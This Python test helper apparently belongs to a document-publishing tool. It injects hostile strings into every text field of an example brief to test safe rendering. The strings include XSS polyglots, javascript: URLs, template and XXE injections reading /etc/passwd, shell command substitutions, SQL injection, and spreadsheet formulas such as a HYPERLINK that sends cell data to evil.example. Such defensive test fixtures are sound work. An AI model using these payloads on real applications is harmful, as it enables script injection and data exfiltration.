"""Hostile texts, and the example brief with them in every field that holds text: for the tests of each edition."""

from __future__ import annotations

import copy
import re
from collections import defaultdict
from collections.abc import Sequence
from functools import cache
from itertools import cycle
from typing import Any

from tests.conftest import EXAMPLE
from tests.helpers.known_parts import known_parts
from topicbrief.load import yaml_files
from topicbrief.load.loader import FileLoader, load_documents
from topicbrief.load.yaml_files import Document
from topicbrief.model.brief import Brief
from topicbrief.model.fields import Label
from topicbrief.model.prose import Prose
from topicbrief.pages import blocks
from topicbrief.storage import read_data_files

# Of every field that holds text: its file, and the way to it. Found in the example, not listed by hand.
Field = tuple[str, tuple[str | int, ...]]

NOT_FREE = {
    "id",
    "url",
    "notice",
    "scopes",
    "what",
    "archived",
    "report",
    "kind",
    "standing",
    "format",
    "status",
    "precision",
    "rank",
    "language",
    "statuses",
    "form",
    "series",
    "axis",
    "grain",
    "paper",
    "address",
    "checkers",  # a name that stands in two places
    "checked_by",
    "evidence_says",
    "read",
}
# What means something in Markdown, its extensions, templates, HTML.
MARKUP = [
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "a | b || c", "`code` ``", "[[not-a-fact", "]]",
    "{{ page.title }}", "{% raw %}", "# heading", "- item", "1. item", "1) item", "+ item", "* item", "> quote", "---", "===",
    "***", "___", '"quoted" \'quoted\'', "\u202eright to left\u202c", "\u200fmark", "🚗 👩‍🚀", "&amp; &lt; &#35; &copy;", "a\\b \\* \\",
    "![x](y)", "[x](javascript:alert(1))", "<https://example.org>", "http://example.org", "{: .x }", "{ #id .c }", "^^a^^ ~~b~~",
    "==c==", "$x$", ":smile:", "[TOC]", "*[HTML]: x", "[^1]: note", "!!! note", "--8<-- 'x'", ":   definition", "a  b\tc", "zero\u200bwidth",
    "小米汽车 – “x” … ½", "]]>", "<!-- -->", "klzzwxh:0000", "wzxhzdk:0", "%3Cb%3E", "<b>", "=SUM(A1)", "~tilde~", "]:", "[x]: y", "| --- |",
]  # fmt: skip
# What runs in a browser if it is anything but text. Whatever runs says so: `window.pwned`.
SCRIPTS = [
    "</title></textarea></style></noscript></script><script>window.pwned=1</script>", "\"'><img src=x onerror=window.pwned=1>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.pwned=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned=1//>",
    "<svg><script>window.pwned=1</script></svg>", "<svg/onload=window.pwned=1>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<details open ontoggle=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>", "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<a href='&#x6A;avascript&colon;window.pwned=1'>x</a>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;img src=x onerror=window.pwned=1&#62;",
    "<style>@import'x'</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example>",
    "{: onclick=window.pwned=1 }", "{: onmouseover='window.pwned=1' .x }", "{ onload=window.pwned=1 }", "{{ constructor.constructor('window.pwned=1')() }}",
    "{% include '/etc/passwd' %}", "{{ config }} ${7*7} #{7*7} <%= 7*7 %>", "<![CDATA[<script>window.pwned=1</script>]]>", "]]><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>", "<!--<script>window.pwned=1</script>", "<?xml-stylesheet href='x'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "[x](javascript:window.pwned=1)", "[x](<java\tscript:window.pwned=1>)", "[x](JaVaScRiPt&colon;window.pwned=1)", "![x](x){ onerror=window.pwned=1 }",
    "<javascript:window.pwned=1>", "[x]: javascript:window.pwned=1", "```html\u2028<script>window.pwned=1</script>", "<script\u2029>window.pwned=1</script>",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e", "'; window.pwned=1; '", "\\'; window.pwned=1; //", "</script\u00a0>", "\u2028window.pwned=1\u2029",
]  # fmt: skip
# What a spreadsheet computes, a calendar or a header takes for a line of its own, a terminal or a reader's eye for something else.
CELLS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM(A1)", "\t=1+1", '"=1+1', "';=1+1", ";=1+1", '","=1+1', "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\\r\\nBEGIN:VALARM", "\u2028BEGIN:VALARM", "\\nATTACH:http://evil.example", "a;b,c:d\\n", "DTSTART:19700101", "BEGIN:VCALENDAR", "%0d%0aSet-Cookie:x",
    "\u202egnp.exe", "\u2066\u2067x\u2069", "a\u200bb\u200dc\ufeffd", "e" + "\u0301" * 40, "\U0001f9d1\u200d\U0001f680", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\ue000\uf8ff", "\U000e0041",
    "..\\..\\x", "../../../etc/passwd", "%2e%2e%2f", "CON", "$(touch pwned)", "`touch pwned`", "| touch pwned", "'; DROP TABLE x; --", "#eval(1)", "#{x}", "$ x $", "@[y]", "\\#let",
]  # fmt: skip
# Characters that no text may have. Each is an error where it stands, so no edition meets one.
REFUSED = ["a\0b", "a\x1b[31mb", "a\r\nBEGIN:VALARM\x07", "a\x85\x9bb", "a\x7fb", "a\ufffeb", "a\rb"]
# Addresses that lead to a script or off the web, disguised: no field and no link in prose takes them.
NO_ADDRESSES = [
    "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", " javascript:window.pwned=1", "java\tscript:window.pwned=1", "java&#10;script:window.pwned=1",
    "&#106;avascript:window.pwned=1", "javascript&colon;window.pwned=1", "\u0001javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "blob:https://example.org/x", "file:///etc/passwd", "//evil.example", "/x", "#x", "http:/x",
    "http:javascript:x", "https://", "https:// x", "view-source:http://x", "feed:javascript:x", "\uff4aavascript:x", "ht\ntp://x.example", "mailto:a@example.org",
]  # fmt: skip
# Addresses that are ones, with all that may break out of an attribute, a cell, a line.
ADDRESSES = [
    "https://example.org/'\"><script>window.pwned=1</script>", "https://example.org/?a=b&lt;=c&quot;'onmouseover='window.pwned=1", "https://example.org/](javascript:window.pwned=1)",
    "https://example.org/){:onclick=window.pwned=1}", "https://example.org/{{x}}{%x%}", "https://example.org/%00%0d%0aX:y", "https://example.org/`|*_~^=<!--]]>",
    "https://user:pass@example.org:99999/\u202ex", "HTTPS://EXAMPLE.ORG/;jsessionid=1,2\\n", "https://example.org/#\u5c0f\u7c73=1+1",
]  # fmt: skip
TEXTS = [*MARKUP, *SCRIPTS, *CELLS]


@cache
def example_documents() -> dict[str, Document]:
    documents = {
        path: yaml_files.read_document(f"data/{path}", data)[0] for path, data in read_data_files(EXAMPLE).items()
    }
    return {path: document for path, document in documents.items() if document}


@cache
def example_parts() -> FileLoader:
    """What loads the files of the example, those that are as they were only once."""
    return known_parts(example_documents())


@cache
def text_fields() -> dict[Field, bool]:
    """Every field of the example that holds free text; whether it is prose."""
    loaded = load_documents(example_documents(), blocks.OPTIONS)
    found: dict[Field, bool] = {}
    for kind in (str, Label, Prose):
        for origin, path, _ in loaded.values(kind):
            if path[-1] in ("unit", "also") and "also" in origin.value():
                continue  # where figures convert, only units that are known come through the checks
            if kind is Label or not NOT_FREE & set(path):
                found[(origin.document.path.removeprefix("data/"), (*origin.path, *path))] = kind is Prose
    return found


@cache
def kinds_of_fields() -> list[Field]:
    """The first field of each kind: of a hundred and more fields, thirty are locators, which all go the same way."""
    first: dict[object, Field] = {}
    for file, path in text_fields():
        first.setdefault((file.partition("/")[0], *(step for step in path if isinstance(step, str))), (file, path))
    return list(first.values())


def as_prose(text: str) -> str:
    """The text as an editor has to write it in prose to get it as it is."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def chunks(texts: list[str], longest: int = 300) -> list[str]:
    """These texts, several in one, short enough for any field."""
    found = [""]
    for text in texts:
        if len(found[-1]) + len(text) > longest:
            found.append("")
        found[-1] += f" {text}"
    return found


def replaced(document: Document, texts: dict[tuple[str | int, ...], str]) -> Document:
    """A document with texts at these places in place of its own."""
    value: Any = copy.deepcopy(document.value)
    for path, text in texts.items():
        inner = value
        for step in path[:-1]:
            inner = inner[step]
        inner[path[-1]] = text
    return Document(document.path, document.text, value, document.places)


def everywhere(*hostile: str, addresses: Sequence[str] = ()) -> dict[str, Document]:
    """The example with these texts, in turn, in every field that holds text, each before a word that tells the fields apart;
    and with these addresses in turn in every field that holds one."""
    texts: dict[str, dict[tuple[str | int, ...], str]] = defaultdict(dict)
    for number, ((file, path), is_prose) in enumerate(text_fields().items()):
        here = f"{hostile[number % len(hostile)]} x{number}x" if path[-1] != "locator" else f"x{number}x"
        texts[file][path] = as_prose(here) if is_prose else here
    sources = [file for file in example_documents() if file.startswith("sources/")]
    for number, (file, address) in enumerate(zip(sources, cycle(addresses))):
        texts[file][("url",)] = f"{address}&x{number}x"
    return {file: replaced(document, texts[file]) for file, document in example_documents().items()}


def brief_of(documents: dict[str, Document]) -> Brief:
    """The brief of these documents, whatever the checks would say of it."""
    loaded = load_documents(documents, blocks.OPTIONS)
    assert loaded.problems == []
    assert loaded.brief
    return loaded.brief
